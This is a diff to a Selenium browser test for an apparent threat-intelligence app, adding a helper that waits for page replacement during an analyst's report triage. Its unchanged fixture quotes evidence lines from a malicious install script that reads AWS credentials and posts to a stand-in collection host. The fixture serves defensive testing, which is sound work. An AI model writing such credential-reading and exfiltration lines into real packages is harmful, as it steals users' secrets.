@@ -1,8 +1,8 @@
 """An analyst triages a report from first look to signature in a real browser (headless Chromium)."""
 import pytest
 import requests
+from selenium.common.exceptions import StaleElementReferenceException, WebDriverException
 from selenium.webdriver.common.by import By
-from selenium.webdriver.support import expected_conditions
 from selenium.webdriver.support.ui import WebDriverWait
 
 from intel.models import Report, Threat
@@ -17,6 +17,24 @@ EVIDENCE = ["install.js:3 fs.readFileSync(os.homedir() + '/.aws/credentials')",
             "install.js:9 https.request('https://hooks.example/collect')"]
 
 
+def wait_replaced(page, element):
+    """Wait until the next page replaced the one holding `element`. Chromium sometimes reports a node
+    of the old document as "does not belong to the document" rather than as a stale reference:
+    both mean the page was replaced."""
+    def replaced(_):
+        try:
+            element.is_enabled()
+        except StaleElementReferenceException:
+            return True
+        except WebDriverException as exc:
+            if "does not belong to the document" in str(exc):
+                return True
+            raise
+        return False
+
+    WebDriverWait(page, 15).until(replaced)
+
+
 def go(page, path):
     page.get(page.base_url + path)  # get() returns once the page has loaded
 
@@ -27,14 +45,14 @@ def login(page, email):
     page.find_element(By.NAME, "password").send_keys(PASSWORD)
     submit = page.find_element(By.CSS_SELECTOR, "input[type=submit]")
     submit.click()
-    WebDriverWait(page, 15).until(expected_conditions.staleness_of(submit))
+    wait_replaced(page, submit)
 
 
 def click(page, by, value):
     """Follow a link and wait for the next page."""
     element = page.find_element(by, value)
     element.click()
-    WebDriverWait(page, 15).until(expected_conditions.staleness_of(element))
+    wait_replaced(page, element)
 
 
 def text(page) -> str:
@@ -49,7 +67,7 @@ def submit_form(page, form_id, **fields):
         field.send_keys(value)
     form.find_element(By.CSS_SELECTOR, "input[type=submit]").click()
     # Wait until the answer replaced the page, so the database is read after the request ran.
-    WebDriverWait(page, 15).until(expected_conditions.staleness_of(form))
+    wait_replaced(page, form)
 
 
 def api_get(live_server, user, path):
